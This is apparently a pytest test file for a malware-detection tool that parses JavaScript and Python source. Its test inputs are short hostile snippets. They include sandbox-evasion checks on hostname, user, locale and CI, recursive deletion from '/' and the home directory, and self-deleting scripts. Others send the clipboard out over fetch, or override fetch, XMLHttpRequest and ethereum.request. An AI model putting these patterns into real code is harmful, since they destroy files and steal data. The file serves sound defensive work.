"""Conditions, walks, loops, overrides and own paths, of both languages."""

import textwrap
import time

import pytest

from customhouse.source.read import read_source

HEAD = "const os = require('os'), fs = require('fs'), path = require('path'), cp = require('child_process')\ncp.exec('x')\n"
PY = "import os, sys, time, shutil, socket, subprocess\nfrom pathlib import Path\nsubprocess.run(['x'])\n"


def js(text):
    return read_source("a.js", (HEAD + textwrap.dedent(text)).encode(), "javascript")


def py(text):
    return read_source("a.py", (PY + textwrap.dedent(text)).encode(), "python")


def guarded(facts):
    return [(each.trait, each.value, each.decides) for each in facts.guards]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("if (os.hostname() === 'lab') process.exit()", ("hostname", "lab", True)),
        ("if (os.hostname() === 'lab') console.log('x')", ("hostname", "lab", False)),
        ("if (os.hostname() === 'lab') cp.exec('y')", ("hostname", "lab", True)),
        ("const h = os.hostname()\nif (/lab/.test(h)) throw 1", ("hostname", "lab", True)),
        ("const is = () => os.hostname() === 'lab'\nif (is()) process.exit()", ("hostname", "lab", True)),
        ("os.hostname() === 'lab' || cp.exec('y')", ("hostname", "lab", True)),
        ("const { username } = os.userInfo()\nif (username === 'lab') process.exit()", ("username", "lab", True)),
        ("switch (process.env['LA' + 'NG']) { case 'xx': process.exit() }", ("locale", "xx", True)),
        ("if (new Date().getTimezoneOffset() === 180) process.exit()", ("timezone", "", True)),
        ("if (Date.now() < 1770000000000) process.exit()", ("date", "1770000000000", True)),
        ("setTimeout(() => {}, 6e5)", ("wait", "600 s", True)),
        ("eval(atob('aWYgKHJlcXVpcmUoJ29zJykuaG9zdG5hbWUoKSA9PT0gJ2xhYicpIHByb2Nlc3MuZXhpdCgp'))", ("hostname", "lab", True)),
    ],
)  # fmt: skip
def test_javascript_conditions(text, expected):
    assert guarded(js(text)) == [expected]


@pytest.mark.parametrize(
    "text",
    ["console.log(os.hostname())", "const a = { host: os.hostname() }", "if (locale === 'x') process.exit()",
     "if (Date.now() > last) process.exit()", "// if (os.hostname()) process.exit()", "setTimeout(() => {}, 1000)",
     "const s = 'timeZone'; if (s) process.exit()"],
)  # fmt: skip
def test_no_condition_of_javascript(text):
    assert guarded(js(text)) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("if socket.gethostname() == 'lab':\n    sys.exit()", ("hostname", "lab", True)),
        ("h = socket.gethostname()\nif 'lab' in h.lower():\n    os._exit(0)", ("hostname", "lab", True)),
        ("bad = ('lab', 'box')\nif socket.gethostname() in bad:\n    raise SystemExit", ("hostname", "lab, box", True)),
        ("def lab():\n    return socket.gethostname() == 'lab'\nif lab():\n    sys.exit()", ("hostname", "lab", True)),
        ("if os.environ.get('USER') == 'lab':\n    sys.exit()", ("username", "lab", True)),
        ("if 'CI' in os.environ:\n    sys.exit()", ("ci", "", True)),
        ("if os.environ['LANG'] == 'xx':\n    print(1)", ("locale", "xx", False)),
        ("if os.cpu_count() < 2:\n    sys.exit()", ("machine", "", True)),
        ("time.sleep(900)", ("wait", "900 s", True)),
    ],
)
def test_python_conditions(text, expected):
    assert guarded(py(text)) == [expected]


@pytest.mark.parametrize(
    "text",
    ["print(socket.gethostname())", "time.sleep(1)", "# if os.environ['CI']: pass", "x = {'CI': os.environ.get('CI')}"],
)
def test_no_condition_of_python(text):
    assert guarded(py(text)) == []


def test_walks():
    (walk,) = js(
        "function f(d) { for (const n of fs.readdirSync(d)) fs.unlinkSync(d + '/' + n) }\nf('/')\nf(os.homedir())"
    ).walks
    assert (walk.does, walk.roots, walk.when) == ("deletes", ("/", "~"), "load")
    (walk,) = js("fs.readdir('../', (e, names) => names.forEach((n) => fs.writeFile('../' + n, 'x', () => {})))").walks
    assert (walk.does, walk.roots) == ("writes", ("../",))
    (walk,) = py("for a, b, c in os.walk('/'):\n    for n in c:\n        open(os.path.join(a, n), 'wb')").walks
    assert (walk.does, walk.roots) == ("writes", ("/",))
    (walk,) = py("def f(d):\n    for n in os.listdir(d):\n        os.remove(os.path.join(d, n))\nf('/')").walks
    assert (walk.does, walk.roots) == ("deletes", ("/",))
    assert js("for (const n of fs.readdirSync('/')) fs.readFileSync(n)").walks == ()
    assert js("for (const n of fs.readdirSync('/')) console.log(n)\nfs.writeFileSync('a.txt', 'x')").walks == ()
    assert py("for n in os.listdir('/'):\n    print(open(n).read())").walks == ()


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("fs.unlinkSync(__filename)", "{__filename}"),
        ("fs.unlinkSync(process.argv[1])", "{__filename}"),
        ("fs.unlinkSync(path.join(__dirname, 'a.js'))", "{__dirname}/a.js"),
        ("fs.unlinkSync(path.join(path.dirname(__filename), 'a.js'))", "{__dirname}/a.js"),
        ("fs.unlinkSync(require('url').fileURLToPath(import.meta.url))", "{__filename}"),
        ("fs.unlinkSync(`${__dirname}/${name}`)", "{__dirname}/{}"),
    ],
)
def test_own_paths_of_javascript(text, path):
    call = next(each for each in js(text).calls if each.callee == "fs.unlinkSync")
    assert (call.arguments[0], call.origins) == (path, ("self",))


@pytest.mark.parametrize(
    ("text", "callee", "path"),
    [
        ("os.remove(__file__)", "os.remove", "{__file__}"),
        ("os.remove(sys.argv[0])", "os.remove", "{__file__}"),
        ("Path(__file__).unlink()", "pathlib.Path.unlink", "{__file__}"),
        ("shutil.rmtree(os.path.dirname(os.path.realpath(__file__)))", "shutil.rmtree", "{__file__}/.."),
        ("shutil.rmtree(Path(__file__).resolve().parent)", "shutil.rmtree", "{__file__}/.."),
        ("(Path.home() / 'a').write_text('x')", "pathlib.Path.write_text", "~/a"),
        ("p = Path.home() / 'a'\np.write_text('x')", "pathlib.Path.write_text", "~/a"),
    ],
)
def test_paths_of_python(text, callee, path):
    call = next(each for each in py(text).calls if each.callee == callee)
    assert call.arguments[0] == path


def test_options_of_programs():
    def options(text):
        return next(each for each in js(text).calls if each.callee == "child_process.spawn").arguments[-1]

    assert options("cp.spawn('a', ['b'], { detached: true, stdio: 'ignore' })") == "detached=true stdio=ignore"
    assert options("const o = { windowsHide: !0, shell: true }; cp.spawn('a', [], o)") == "windowsHide=true shell=true"
    assert options("cp.spawn('a', [], { cwd: 'b' })") is None


def test_what_is_captured_has_an_origin():
    facts = js("const t = require('clipboardy').readSync()\nfetch('https://a.test/', { body: t })")
    assert "captured" in next(each for each in facts.calls if each.callee == "fetch").origins
    facts = py("import pyperclip, requests\nrequests.post('https://a.test/', pyperclip.paste())")
    assert "captured" in next(each for each in facts.calls if each.callee == "requests.post").origins


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("window.fetch = f", "fetch"), ("globalThis['fetch'] = f", "fetch"), ("fetch = f", "fetch"),
        ("XMLHttpRequest.prototype.open = f", "XMLHttpRequest.prototype.open"),
        ("const x = XMLHttpRequest.prototype; x.send = f", "XMLHttpRequest.prototype.send"),
        ("window['ether' + 'eum'].request = f", "ethereum.request"), ("Reflect.set(ethereum, 'request', f)", "ethereum.request"),
        ("Object.defineProperty(window, 'fetch', { value: f })", "fetch"), ("window[g(1)] = function () {}", "*"),
    ],
)  # fmt: skip
def test_overrides(text, target):
    assert [each.target for each in js(f"'ethereum'; 'solana'; typeof ethereum\n{text}").overrides] == [target]


@pytest.mark.parametrize(
    "text", ["let fetch; fetch = f", "function g(fetch) { fetch = f }", "client.fetch = f", "window.ready = f", "window[g(1)] = 1",
             "exports.fetch = f", "if (window.fetch === f) g()"]
)  # fmt: skip
def test_what_is_no_override(text):
    assert js(f"typeof ethereum\n{text}").overrides == ()


@pytest.mark.parametrize(
    ("language", "piece"),
    [
        ("javascript", "if (os.hostname() === 'a') process.exit()\n"), ("javascript", "while (true) {}\n"),
        ("javascript", "window[a][b] = function () {}; ethereum.request = f\n"), ("javascript", "for (;a;;\n"),
        ("python", "if os.environ['CI'] == 'a': exit()\n"), ("python", "while True: print(1)\n"),
    ],
)  # fmt: skip
def test_much_of_it_is_bounded(language, piece):
    head = HEAD if language == "javascript" else PY
    data = (head + piece * (300_000 // len(piece))).encode()
    before = time.process_time()
    read_source("a.js" if language == "javascript" else "a.py", data, language)
    assert time.process_time() - before < 20
